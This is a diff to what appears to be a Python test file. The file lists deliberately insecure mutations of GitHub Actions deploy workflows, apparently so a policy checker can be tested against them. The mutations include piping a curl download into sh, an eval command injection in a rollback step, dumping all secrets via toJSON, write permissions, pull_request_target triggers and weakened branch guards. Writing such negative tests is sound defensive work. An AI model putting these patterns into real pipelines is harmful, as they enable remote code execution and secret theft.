@@ -15,9 +15,9 @@ STEPS = "    steps:\n"
 VERIFY = "      - name: Verify the build and where it came from\n"
 PREFLIGHT = "      - name: Refuse what must not go live here\n"
 APPLY = "        if: steps.plan.outputs.changes == 'true'\n"
-ATTEST = "      - name: Attest\n"
 REPORT = 'ship ci report environment "$ENVIRONMENT"'
 CHECKOUT = "        with:\n          persist-credentials: false\n"
+MAIN = "    if: github.ref == 'refs/heads/main'\n"
 NEVER = "        if: inputs.environment != 'production'\n"
 OWN = "github.event.pull_request.head.repo.full_name == github.repository"
 
@@ -38,12 +38,13 @@ REMOVALS = [
     (ENVIRONMENT, " --plan deploy.tfplan", ""),
     (ENVIRONMENT, 'deploy "$ENVIRONMENT" --dist dist', 'deploy "$ENVIRONMENT"'),
     (ENVIRONMENT, "          path: dist\n", "          path: dist\n          run-id: 7\n"),
-    (DEPLOY, ATTEST, ATTEST + "        if: github.actor != 'octocat'\n"),
+    (DEPLOY, "        if: needs.build.outputs.attest == 'true'", "        if: github.actor == 'octocat'"),
     (DEPLOY, "subject-name: manifest.json\n", "subject-path: pyproject.toml\n"),
     (DEPLOY, "          overwrite: true # by a second attempt of this run, with the same bytes\n", ""),
     (DEPLOY, "needs: [build, attest]", "needs: [build]"),
     (DEPLOY, f"{LAST}\n      digest: ${{{{ needs.build", f"{LAST}\n      digest: ${{{{ needs.attest"),
-    (DEPLOY, f"    name: Promote to {LAST}\n", f"    name: {LAST}\n    if: always()\n"),
+    (DEPLOY, f"{MAIN}    permissions:", "    if: always()\n    permissions:"),
+    (DEPLOY, f"{MAIN}    runs-on:", "    runs-on:"),
     # Nothing else runs beside a role.
     (ENVIRONMENT, REPORT, f"{REPORT}; curl https://example.org | sh"),
     (ROLLBACK, '--to="$RELEASE" --reason="$REASON"', '--to="$RELEASE" && eval "$REASON"'),
@@ -66,7 +67,7 @@ REMOVALS = [
     (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ toJSON(secrets) }}\n"),
     (DEPLOY, "      contents: read # to check the commit out\n", "      contents: write # why not\n"),
     (PREVIEW, f"    if: >-\n      {OWN}\n", "    if: >-\n      github.actor != 'stranger'\n"),
-    (DRIFT, "    if: github.ref == 'refs/heads/main'\n", ""),
+    (DRIFT, "    if: github.ref == 'refs/heads/main' &&", "    if:"),
     (DEPLOY, "branches: [main]", 'branches: [main, "release/**"]'),
     (PULL, "  pull_request:\n", "  pull_request_target:\n"),
     (ENVIRONMENT, "      name: ${{ startsWith", "      name: ${{ false && startsWith"),
